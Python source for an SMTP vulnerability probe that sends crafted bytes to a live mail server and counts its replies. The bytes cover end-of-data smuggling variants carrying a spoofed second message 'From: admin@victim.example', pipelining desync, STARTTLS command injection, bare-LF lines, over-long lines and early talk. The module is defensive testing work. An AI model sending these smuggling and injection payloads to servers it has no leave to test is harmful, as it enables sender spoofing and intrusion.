"""``python -m smtpproto probe HOST:PORT``: try the protocol rows of
SECURITY-CASES.md against a live server and say, per row, what it did.

Each case opens a fresh TCP connection to the one address given.  The normal
part of the dialogue (greeting, EHLO, MAIL, RCPT, DATA) is sent and parsed by a
client :class:`~smtpproto.Connection`; the hostile bytes are then written raw,
and everything the server answers from that point on is split into replies
with the core's reply-line parser and *counted*, because the number of replies
is exactly what tells a safe server from a vulnerable one (a server that ends
DATA at ``<LF>.<LF>`` answers the smuggled commands too).

Nothing here needs certificates: for T-01 the probe completes the TLS handshake
as a client that does not check the server certificate, only to see whether the
injected command is answered.  Every wait is bounded by the per-case timeout and
by the whole run's budget.
"""

from __future__ import annotations

import argparse
import json
import socket
import ssl
import sys
import time
from dataclasses import asdict, dataclass
from typing import Callable, Literal, NoReturn, Sequence

from ._config import Config
from ._connection import NEED_DATA, Connection, Role
from ._errors import LocalProtocolError, RemoteProtocolError
from ._events import ConnectionClosed, Data, Ehlo, Mail, Noop, Rcpt, Reply
from ._replies import parse_reply_line

__all__ = ["CaseResult", "ProbeError", "Verdict", "format_table", "main", "parse_target", "run_probe"]

#: The outcome of one case.
Verdict = Literal["safe", "vulnerable", "inconclusive"]

#: How long the whole run may take at most (seconds); the brief is one minute.
RUN_BUDGET = 55.0

#: The most a case reads from the server before it stops listening.
_MAX_WIRE = 1024 * 1024


class ProbeError(Exception):
    """The probe could not run at all (the server is unreachable)."""


@dataclass(frozen=True)
class CaseResult:
    """One row of the report."""

    #: The SECURITY-CASES id, e.g. ``"S-01"``.
    case: str
    #: What the case is about, in a few words.
    title: str
    #: The hostile bytes sent, escaped and shortened.
    sent: str
    #: What the server answered (reply codes and the first words of their text).
    server: str
    verdict: Verdict
    #: Why the verdict was reached.
    reason: str

    def as_dict(self) -> dict[str, str]:
        """The row as a JSON-ready dictionary."""
        return asdict(self)


@dataclass(frozen=True)
class _Seen:
    """A reply counted in the hostile phase."""

    code: int
    text: str

    def __str__(self) -> str:
        text = self.text if len(self.text) <= 40 else self.text[:37] + "..."
        return f"{self.code} {text}".rstrip()


class _Abort(Exception):
    """The normal part of the dialogue failed: the case is inconclusive."""


def escape(data: bytes, limit: int = 60) -> str:
    """``data`` as a printable Python-style literal body, shortened to about
    ``limit`` characters with the number of octets left out."""
    text = repr(data)[2:-1]
    if len(text) <= limit:
        return text
    head = text[: limit - 20]
    tail = text[-12:]
    return f"{head}…({len(data)} octets)…{tail}"


class _Session:
    """One TCP connection for one case."""

    def __init__(self, sock: socket.socket, timeout: float, deadline: float) -> None:
        self.deadline = min(deadline, time.monotonic() + timeout)
        self.sock: socket.socket | ssl.SSLSocket = sock
        self.conn = Connection(Role.CLIENT, Config(bare_newline="normalize"))
        self.tracking = True
        self.wire = bytearray()
        self.closed = False
        self.timed_out = False
        self.flooded = False
        self.send_failed = False

    @classmethod
    def connect(cls, host: str, port: int, timeout: float, deadline: float) -> "_Session":
        left = max(0.05, min(deadline, time.monotonic() + timeout) - time.monotonic())
        return cls(socket.create_connection((host, port), timeout=left), timeout, deadline)

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass

    def silence(self, otherwise: str) -> str:
        """Why no reply was counted."""
        if self.flooded:
            return f"sent over {_MAX_WIRE // 1024} KiB without a complete reply; reading stopped"
        if self.closed:
            return "closed the connection without a reply"
        return otherwise

    def remaining(self) -> float:
        return self.deadline - time.monotonic()

    def _recv(self, until: float) -> bool:
        """Read once; False on timeout or when the peer closed."""
        left = min(until, self.deadline) - time.monotonic()
        if self.flooded:
            return False
        if left <= 0 or self.closed:
            if left <= 0:
                self.timed_out = time.monotonic() >= self.deadline
            return False
        self.sock.settimeout(left)
        try:
            data = self.sock.recv(65536)
        except (socket.timeout, TimeoutError):
            self.timed_out = time.monotonic() >= self.deadline
            return False
        except OSError:
            data = b""
        if not data:
            self.closed = True
            if self.tracking:
                self.conn.receive_data(b"")
            return False
        self.wire += data
        if self.tracking:
            self.conn.receive_data(data)
        if len(self.wire) > _MAX_WIRE:
            self.flooded = True  # a server that never stops talking: keep memory bounded
        return True

    # ---- the normal dialogue, through the core client Connection

    def reply(self, what: str) -> Reply:
        """The next reply, parsed by the client Connection."""
        while True:
            try:
                ev = self.conn.next_event()
            except RemoteProtocolError as exc:
                raise _Abort(f"{what}: the server broke the protocol ({exc})") from None
            if isinstance(ev, Reply):
                return ev
            if isinstance(ev, ConnectionClosed):
                raise _Abort(f"{what}: the server closed the connection")
            if ev is NEED_DATA:
                if not self._recv(self.deadline):
                    raise _Abort(f"{what}: no reply within the time limit" if not self.closed
                                 else f"{what}: the server closed the connection")
                continue
            raise _Abort(f"{what}: unexpected {ev!r}")

    def command(self, event: Ehlo | Mail | Rcpt | Data | Noop, what: str, *, want: int = 250) -> Reply:
        """Send ``event`` (bytes from the core) and require a ``want``-class reply."""
        try:
            data = self.conn.send(event)
        except LocalProtocolError as exc:
            raise _Abort(f"{what}: {exc}") from None
        self.sock.sendall(data)
        reply = self.reply(what)
        if reply.code // 100 != want // 100:
            raise _Abort(f"{what} refused: {reply.code} {' '.join(reply.lines)[:60]}")
        return reply

    def greeting(self) -> Reply:
        reply = self.reply("greeting")
        if reply.code != 220:
            raise _Abort(f"greeting was {reply.code}, not 220")
        return reply

    # ---- the hostile phase: raw bytes out, replies counted

    def mark(self) -> int:
        """Stop feeding the Connection; replies from here on are counted."""
        self.tracking = False
        leftover, _ = self.conn.trailing_data
        # Bytes the Connection already buffered but did not parse belong to the
        # hostile phase.
        return len(self.wire) - len(leftover)

    def raw(self, data: bytes) -> None:
        try:
            self.sock.sendall(data)
        except OSError:
            # The server stopped reading (it may have closed after a refusal);
            # what it said before is still there to be read.
            self.send_failed = True

    def seen(self, mark: int) -> tuple[list[_Seen], bytes]:
        """Complete replies received since ``mark`` and the unparsed rest."""
        out: list[_Seen] = []
        data = bytes(self.wire[mark:])
        pos = 0
        lines: list[str] = []
        while True:
            end = data.find(b"\n", pos)
            if end < 0:
                break
            raw = data[pos:end].rstrip(b"\r")
            pos = end + 1
            parsed = parse_reply_line(raw)
            if parsed is None:
                out.append(_Seen(0, "malformed: " + escape(raw, 30)))
                lines = []
                continue
            lines.append(parsed.text)
            if parsed.last:
                out.append(_Seen(parsed.code, lines[0]))
                lines = []
        return out, data[pos:]

    def collect(self, mark: int, at_least: int, settle: float) -> list[_Seen]:
        """Read until ``at_least`` replies arrived (or the peer closed, or time
        ran out), then for ``settle`` more seconds of quiet."""
        while len(self.seen(mark)[0]) < at_least:
            if not self._recv(self.deadline):
                return self.seen(mark)[0]
        while self._recv(time.monotonic() + settle):
            pass
        return self.seen(mark)[0]


def _codes(seen: Sequence[_Seen]) -> str:
    if not seen:
        return "no reply"
    if len(seen) <= 2:
        return ", ".join(str(s) for s in seen)
    # Many replies: the code and the first word (often the enhanced code) each.
    return ", ".join(f"{s.code} {s.text.split(' ', 1)[0]}".rstrip() for s in seen)


def _malformed(seen: Sequence[_Seen]) -> bool:
    return any(r.code == 0 for r in seen)


def _did(seen: Sequence[_Seen], s: _Session) -> str:
    text = _codes(seen)
    if s.flooded:
        text += f"; over {_MAX_WIRE // 1024} KiB, reading stopped"
    elif s.closed:
        text += "; closed"
    elif s.timed_out and not seen:
        text += " (timed out)"
    return text


# ---------------------------------------------------------------- the cases


@dataclass(frozen=True)
class _Options:
    host: str
    port: int
    timeout: float
    settle: float
    helo: str
    mail_from: str
    rcpt_to: str
    starttls: bool


Case = Callable[[_Session, _Options], CaseResult]


def _open_transaction(s: _Session, o: _Options) -> None:
    s.greeting()
    s.command(Ehlo(domain=o.helo), "EHLO")
    s.command(Mail(reverse_path=o.mail_from), "MAIL")
    s.command(Rcpt(forward_path=o.rcpt_to), "RCPT")
    s.command(Data(), "DATA", want=354)


def _smuggling(case: str, title: str, segments: Sequence[bytes]) -> Case:
    def run(s: _Session, o: _Options) -> CaseResult:
        sent = " + ".join(escape(seg, 48) for seg in segments)
        _open_transaction(s, o)
        mark = s.mark()
        for i, seg in enumerate(segments):
            if i:
                time.sleep(min(0.1, max(0.0, s.remaining())))  # keep the segments apart
            s.raw(seg)
        seen = s.collect(mark, 1, o.settle)
        did = _did(seen, s)
        if _malformed(seen):
            return CaseResult(case, title, sent, did, "inconclusive", "the server sent a malformed reply line")
        if not seen:
            why = s.silence("no reply to the real end of data")
            return CaseResult(case, title, sent, did, "inconclusive", why)
        if len(seen) > 1:
            return CaseResult(case, title, sent, did, "vulnerable",
                              f"{len(seen)} replies to one message: the variant ended DATA early "
                              "and the rest of the content was read as commands")
        first = seen[0]
        if first.code < 400:
            return CaseResult(case, title, sent, did, "safe",
                              "one reply, after the real <CR><LF>.<CR><LF>: the variant stayed message content")
        return CaseResult(case, title, sent, did, "safe",
                          f"one reply: the message was refused ({first.code}), no second message")
    return run


def _case_s12(s: _Session, o: _Options) -> CaseResult:
    title = "pipelining sync: content sent before the 354"
    tail = (b"\r\n.\r\nMAIL FROM:<" + o.mail_from.encode() + b">\r\nRCPT TO:<" + o.rcpt_to.encode()
            + b">\r\nDATA\r\nFrom: admin@victim.example\r\n\r\nspoof\r\n.\r\n")
    body = b"Subject: smtpproto probe S-12\r\n\r\nbody"
    sent = "<body> + " + escape(tail, 56)
    _open_transaction(s, o)
    mark = s.mark()
    s.raw(body)
    time.sleep(min(0.1, max(0.0, s.remaining())))
    s.raw(tail)
    seen = s.collect(mark, 5, o.settle)
    did = _did(seen, s)
    if _malformed(seen):
        return CaseResult("S-12", title, sent, did, "inconclusive", "the server sent a malformed reply line")
    if not seen:
        return CaseResult("S-12", title, sent, did, "inconclusive", "no reply to the end of the first message")
    rest = seen[1:]
    codes = [r.code for r in rest]
    if 354 in codes:
        after = rest[codes.index(354) + 1:]
        if after and after[0].code < 400:
            return CaseResult("S-12", title, sent, did, "vulnerable",
                              "accepted a second message whose content arrived before its 354")
        if after and (after[0].code == 554 or s.closed):
            return CaseResult("S-12", title, sent, did, "safe",
                              f"refused the content that arrived before its 354 ({after[0].code}), "
                              "no second message")
        return CaseResult("S-12", title, sent, did, "inconclusive",
                          "gave 354 for content that arrived before it, but did not accept that message")
    if s.closed or any(c >= 500 for c in codes):
        return CaseResult("S-12", title, sent, did, "safe",
                          "refused the pipelined DATA and its early content (no 354)")
    return CaseResult("S-12", title, sent, did, "inconclusive", "neither a 354 nor a refusal for the inner DATA")


def _case_s15(s: _Session, o: _Options) -> CaseResult:
    title = "bare LF ends no command line"
    line = b"EHLO " + o.helo.encode() + b"\nMAIL FROM:<" + o.mail_from.encode() + b">\r\n"
    sent = escape(line)
    s.greeting()
    mark = s.mark()
    s.raw(line)
    seen = s.collect(mark, 1, o.settle)
    did = _did(seen, s)
    if _malformed(seen):
        return CaseResult("S-15", title, sent, did, "inconclusive", "the server sent a malformed reply line")
    if not seen:
        return CaseResult("S-15", title, sent, did, "inconclusive",
                          s.silence("no reply"))
    if seen[0].code < 400:
        return CaseResult("S-15", title, sent, did, "vulnerable", "accepted an EHLO line ended by a bare LF")
    if any(r.code < 400 for r in seen):
        return CaseResult("S-15", title, sent, did, "vulnerable",
                          "split the line at the bare LF and ran the command after it")
    return CaseResult("S-15", title, sent, did, "safe",
                      f"refused the line ({seen[0].code}) and ran nothing from it")


def _case_r01(s: _Session, o: _Options) -> CaseResult:
    title = "command line over 512 octets"
    line = b"NOOP " + b"A" * 600 + b"\r\n"
    sent = escape(line, 40) + " + NOOP\\r\\n"
    s.greeting()
    s.command(Ehlo(domain=o.helo), "EHLO")
    mark = s.mark()
    s.raw(line)
    first = s.collect(mark, 1, o.settle)
    if first and not s.closed:
        s.raw(b"NOOP\r\n")
        seen = s.collect(mark, len(first) + 1, o.settle)
    else:
        seen = first
    did = _did(seen, s)
    if _malformed(seen):
        return CaseResult("R-01", title, sent, did, "inconclusive", "the server sent a malformed reply line")
    if not seen:
        return CaseResult("R-01", title, sent, did, "inconclusive",
                          s.silence("no reply"))
    if len(seen) > 2:
        return CaseResult("R-01", title, sent, did, "vulnerable",
                          f"{len(seen)} replies to 2 lines: the tail of the long line was read as a command")
    if len(seen) == 1:
        if seen[0].code >= 400 and s.closed:
            return CaseResult("R-01", title, sent, did, "safe", "refused the long line and closed")
        return CaseResult("R-01", title, sent, did, "inconclusive", "no reply to the NOOP after the long line")
    if seen[1].code >= 400:
        return CaseResult("R-01", title, sent, did, "inconclusive", "the NOOP after the long line was refused")
    if seen[0].code >= 400:
        return CaseResult("R-01", title, sent, did, "safe",
                          "refused the long line as one command and answered the next NOOP")
    return CaseResult("R-01", title, sent, did, "safe",
                      "accepted the 607-octet line as one command (a limit above RFC 5321's 512)")


def _case_p01(s: _Session, o: _Options) -> CaseResult:
    title = "client talks before the greeting"
    line = b"EHLO " + o.helo.encode() + b"\r\n"
    sent = escape(line) + " (before the 220)"
    mark = s.mark()
    s.raw(line)
    seen = s.collect(mark, 2, o.settle)
    did = _did(seen, s)
    if _malformed(seen):
        return CaseResult("P-01", title, sent, did, "inconclusive", "the server sent a malformed reply line")
    if not seen:
        return CaseResult("P-01", title, sent, did, "inconclusive",
                          s.silence("no greeting"))
    if seen[0].code != 220:
        if seen[0].code >= 500 and len(seen) == 1:
            return CaseResult("P-01", title, sent, did, "safe", f"refused the early talker ({seen[0].code})")
        if seen[0].code < 400:
            return CaseResult("P-01", title, sent, did, "vulnerable",
                              "answered the command before sending its greeting")
        return CaseResult("P-01", title, sent, did, "inconclusive", f"greeting was {seen[0].code}")
    if len(seen) == 1:
        if s.closed:
            return CaseResult("P-01", title, sent, did, "safe", "greeted, then closed on the early talker")
        return CaseResult("P-01", title, sent, did, "inconclusive",
                          s.silence("greeted but never answered the early EHLO"))
    if seen[1].code >= 400:
        return CaseResult("P-01", title, sent, did, "safe", f"detected the early talker ({seen[1].code})")
    return CaseResult("P-01", title, sent, did, "safe",
                      "greeted first and only then answered the early EHLO (no pregreet test, which "
                      "needs a greeting delay)")


def _case_t01(s: _Session, o: _Options) -> CaseResult:
    title = "STARTTLS command injection"
    seg = b"STARTTLS\r\nRSET\r\n"
    sent = escape(seg)
    s.greeting()
    ehlo = s.command(Ehlo(domain=o.helo), "EHLO")
    if not any(line.upper().split()[:1] == ["STARTTLS"] for line in ehlo.lines[1:]):
        return CaseResult("T-01", title, sent, "EHLO reply without STARTTLS", "inconclusive",
                          "the server does not offer STARTTLS")
    mark = s.mark()
    s.raw(seg)
    seen = s.collect(mark, 1, o.settle)
    did = _did(seen, s)
    if _malformed(seen):
        return CaseResult("T-01", title, sent, did, "inconclusive", "the server sent a malformed reply line")
    if not seen:
        return CaseResult("T-01", title, sent, did, "inconclusive",
                          s.silence("no reply to STARTTLS"))
    if seen[0].code != 220:
        if seen[0].code == 554 or s.closed:
            return CaseResult("T-01", title, sent, did, "safe",
                              f"refused STARTTLS with bytes behind it ({seen[0].code})")
        return CaseResult("T-01", title, sent, did, "inconclusive", f"STARTTLS refused ({seen[0].code})")
    if len(seen) > 1:
        if seen[1].code < 400:
            return CaseResult("T-01", title, sent, did, "vulnerable",
                              "answered the injected RSET in cleartext after its 220")
        return CaseResult("T-01", title, sent, did, "safe",
                          f"refused the bytes sent behind STARTTLS ({seen[1].code}) instead of running them")
    if s.closed:
        return CaseResult("T-01", title, sent, did, "safe", "closed after the 220 rather than run the injected RSET")
    # 220 and silence: shake hands (no certificate check: we only look at what
    # the server says next) and see whether the RSET is answered inside TLS.
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        s.sock.settimeout(max(0.05, s.remaining()))
        s.sock = ctx.wrap_socket(s.sock, server_hostname=o.host)
    except (OSError, ssl.SSLError) as exc:
        return CaseResult("T-01", title, sent, did + "; TLS handshake failed", "inconclusive",
                          f"220, no cleartext answer to RSET; could not complete TLS ({type(exc).__name__})")
    tls_mark = len(s.wire)
    early = s.collect(tls_mark, 0, o.settle)
    s.raw(b"EHLO " + o.helo.encode() + b"\r\n")
    inside = s.collect(tls_mark, len(early) + 1, o.settle)
    did = f"{did}; in TLS: {_codes(inside)}"
    if early or len(inside) > 1:
        return CaseResult("T-01", title, sent, did, "vulnerable",
                          "the RSET sent in cleartext was answered inside TLS (CVE-2011-0411)")
    if len(inside) == 1:
        return CaseResult("T-01", title, sent, did, "safe",
                          "the cleartext RSET was discarded: inside TLS only the EHLO was answered")
    return CaseResult("T-01", title, sent, did, "inconclusive", "no reply inside TLS")


def _cases(o: _Options) -> list[tuple[str, str, Case]]:
    cases: list[tuple[str, str, Case]] = [
        ("S-01", "smuggling <LF>.<LF>", _smuggling("S-01", "smuggling <LF>.<LF>", [
            b"Subject: a\r\n\r\nbody\n.\nMAIL FROM:<" + o.mail_from.encode() + b">\r\nRCPT TO:<"
            + o.rcpt_to.encode() + b">\r\nDATA\r\nFrom: admin@victim.example\r\n\r\nspoof\r\n.\r\n"])),
        ("S-02", "smuggling <LF>.<CR><LF>", _smuggling("S-02", "smuggling <LF>.<CR><LF>", [
            b"Subject: a\r\n\r\nTesting\n.\r\nNO SMUGGLING\r\n.\r\n"])),
        ("S-03", "smuggling <CR><LF>.<LF>", _smuggling("S-03", "smuggling <CR><LF>.<LF>", [
            b"body\r\n.\nMAIL FROM:<x@x>\r\n", b"\r\n.\r\n"])),
        ("S-04", "smuggling <CR>.<CR>", _smuggling("S-04", "smuggling <CR>.<CR>", [
            b"body\r.\rMAIL FROM:<x@x>\r\n", b"\r\n.\r\n"])),
        ("S-05", "smuggling <CR>.<LF>", _smuggling("S-05", "smuggling <CR>.<LF>", [
            b"body\r.\n", b"\r\n.\r\n"])),
        ("S-06a", "smuggling <LF>.<CR>", _smuggling("S-06a", "smuggling <LF>.<CR>", [
            b"body\n.\r", b"\r\n.\r\n"])),
        ("S-06b", "smuggling <CR>.<CR><LF>", _smuggling("S-06b", "smuggling <CR>.<CR><LF>", [
            b"body\r.\r\n", b"\r\n.\r\n"])),
        ("S-07", "smuggling <CR><LF>.<CR>", _smuggling("S-07", "smuggling <CR><LF>.<CR>", [
            b"body\r\n.\rMAIL FROM:<x@x>\r\n", b"\r\n.\r\n"])),
        ("S-12", "pipelining sync: content sent before the 354", _case_s12),
    ]
    if o.starttls:
        cases.append(("T-01", "STARTTLS command injection", _case_t01))
    cases += [
        ("S-15", "bare LF ends no command line", _case_s15),
        ("R-01", "command line over 512 octets", _case_r01),
        ("P-01", "client talks before the greeting", _case_p01),
    ]
    return cases


# ---------------------------------------------------------------- running


def parse_target(target: str) -> tuple[str, int]:
    """``HOST:PORT``, ``[IPv6]:PORT`` or ``HOST`` (port 25) as (host, port)."""
    host, port = target, "25"
    if target.startswith("["):
        end = target.find("]")
        if end < 0:
            raise ValueError(f"bad address {target!r}")
        host, rest = target[1:end], target[end + 1:]
        if rest:
            if not rest.startswith(":"):
                raise ValueError(f"bad address {target!r}")
            port = rest[1:]
    elif target.count(":") == 1:
        host, port = target.split(":")
    if not host or not port.isdigit() or not 0 < int(port) < 65536:
        raise ValueError(f"bad address {target!r} (want HOST:PORT)")
    return host, int(port)


def run_probe(
    host: str,
    port: int,
    *,
    starttls: bool = False,
    timeout: float = 5.0,
    settle: float = 0.5,
    budget: float = RUN_BUDGET,
    helo: str = "probe.smtpproto.invalid",
    mail_from: str = "",
    rcpt_to: str = "Postmaster",
    only: Sequence[str] | None = None,
) -> list[CaseResult]:
    """Run every case against ``host:port``, one fresh connection each.

    :param timeout: seconds allowed per case.
    :param settle: seconds of silence that end a case's reading (replies a
        vulnerable server sends to smuggled commands come right after).
    :param budget: seconds for the whole run; cases that do not fit are
        reported inconclusive.
    :param mail_from, rcpt_to: the envelope (default the null sender and
        ``Postmaster``, which every server must accept, RFC 5321 §4.5.1).
        A server may deliver up to one test message per smuggling case.
    :param only: run just these case ids (e.g. ``["S-01", "T-01"]``).
    :raises ProbeError: the server cannot be reached at all.
    """
    if timeout <= 0 or settle < 0 or budget <= 0:
        raise ValueError("timeout and budget must be positive, settle not negative")
    # Fail early with the same checks the core applies to what it sends.
    Ehlo(domain=helo)
    Mail(reverse_path=mail_from)
    Rcpt(forward_path=rcpt_to)
    o = _Options(host, port, timeout, settle, helo, mail_from, rcpt_to, starttls)
    cases = _cases(o)
    if only is not None:
        unknown = set(only) - {c[0] for c in _cases(_Options(host, port, timeout, settle, helo, mail_from,
                                                              rcpt_to, True))}
        if unknown:
            raise ValueError(f"unknown case id(s): {', '.join(sorted(unknown))}")
        cases = [c for c in cases if c[0] in only]
    deadline = time.monotonic() + budget
    try:
        socket.create_connection((host, port), timeout=min(timeout, budget)).close()
    except OSError as exc:
        raise ProbeError(f"cannot connect to {host}:{port}: {exc}") from None
    results: list[CaseResult] = []
    for case_id, title, case in cases:
        if deadline - time.monotonic() < 0.5:
            results.append(CaseResult(case_id, title, "", "not run", "inconclusive", "the run's time budget was used up"))
            continue
        try:
            session = _Session.connect(host, port, timeout, deadline)
        except OSError as exc:
            results.append(CaseResult(case_id, title, "", "no connection", "inconclusive", f"cannot connect: {exc}"))
            continue
        try:
            results.append(case(session, o))
        except _Abort as exc:
            results.append(CaseResult(case_id, title, "", "dialogue failed", "inconclusive", str(exc)))
        except OSError as exc:
            results.append(CaseResult(case_id, title, "", "connection error", "inconclusive", str(exc)))
        finally:
            session.close()
    return results


def format_table(results: Sequence[CaseResult]) -> str:
    """The results as a fixed-width text table (one row per case, then a tally)."""
    headers = ("case", "sent", "server did", "verdict", "reason")
    rows = [(r.case, r.sent, r.server, r.verdict, r.reason) for r in results]
    widths = [max(len(h), *(len(row[i]) for row in rows)) if rows else len(h) for i, h in enumerate(headers)]
    widths[1] = min(widths[1], 64)
    widths[2] = min(widths[2], 60)

    def fmt(row: Sequence[str]) -> str:
        cells = []
        for i, cell in enumerate(row[:-1]):
            if len(cell) > widths[i]:
                cell = cell[: widths[i] - 1] + "…"
            cells.append(cell.ljust(widths[i]))
        cells.append(row[-1])
        return "  ".join(cells).rstrip()

    lines = [fmt(headers), fmt(["-" * w for w in widths[:-1]] + ["-" * len(headers[-1])])]
    lines += [fmt(row) for row in rows]
    tally = {v: sum(1 for r in results if r.verdict == v) for v in ("safe", "vulnerable", "inconclusive")}
    lines.append("")
    lines.append(", ".join(f"{n} {v}" for v, n in tally.items()))
    return "\n".join(lines)


class _Parser(argparse.ArgumentParser):
    def error(self, message: str) -> NoReturn:
        self.exit(2, f"{self.prog}: error: {message} (see --help)\n")


def main(argv: Sequence[str]) -> int:
    """``probe HOST:PORT [--starttls] [--json] [--timeout S]``; 0 when the probe
    ran (whatever the verdicts), 1 when the server is unreachable, 2 on bad usage."""
    p = _Parser(prog="python -m smtpproto probe", description=(
        "Run the protocol rows of SECURITY-CASES (SMTP smuggling, pipelining sync, STARTTLS injection, "
        "bare LF, long lines, pre-greeting talk) against one server, one fresh connection per case. "
        "Smuggling cases may deliver a test message to --rcpt-to."))
    p.add_argument("target", metavar="HOST:PORT", help="the server to probe (port 25 if omitted)")
    p.add_argument("--starttls", action="store_true", help="also run T-01 (STARTTLS injection) if offered")
    p.add_argument("--json", action="store_true", help="print JSON instead of a table")
    p.add_argument("--timeout", type=float, default=5.0, metavar="S", help="seconds per case (default 5)")
    p.add_argument("--settle", type=float, default=0.5, metavar="S",
                   help="seconds of silence that end a case's reading (default 0.5)")
    p.add_argument("--case", action="append", metavar="ID", help="run only this case (repeatable), e.g. S-01")
    p.add_argument("--helo", default="probe.smtpproto.invalid", help="the EHLO name to use")
    p.add_argument("--mail-from", default="", metavar="ADDR", help="envelope sender (default: <>)")
    p.add_argument("--rcpt-to", default="Postmaster", metavar="ADDR", help="envelope recipient (default: Postmaster)")
    args = p.parse_args(list(argv))
    try:
        host, port = parse_target(args.target)
    except ValueError as exc:
        p.error(str(exc))
    if not 0 < args.timeout <= RUN_BUDGET:
        p.error(f"--timeout must be between 0 and {RUN_BUDGET:g} seconds")
    if not 0 <= args.settle <= 5:
        p.error("--settle must be between 0 and 5 seconds")
    try:
        results = run_probe(host, port, starttls=args.starttls, timeout=args.timeout, settle=args.settle,
                            helo=args.helo, mail_from=args.mail_from, rcpt_to=args.rcpt_to, only=args.case)
    except ProbeError as exc:
        print(f"{p.prog}: error: {exc}", file=sys.stderr)
        return 1
    except LocalProtocolError as exc:
        p.error(f"bad --helo/--mail-from/--rcpt-to: {exc}")
    except ValueError as exc:
        p.error(str(exc))
    if args.json:
        print(json.dumps({"target": f"{host}:{port}", "results": [r.as_dict() for r in results]}, indent=2))
    else:
        print(f"smtpproto probe {host}:{port}")
        print(format_table(results))
    return 0
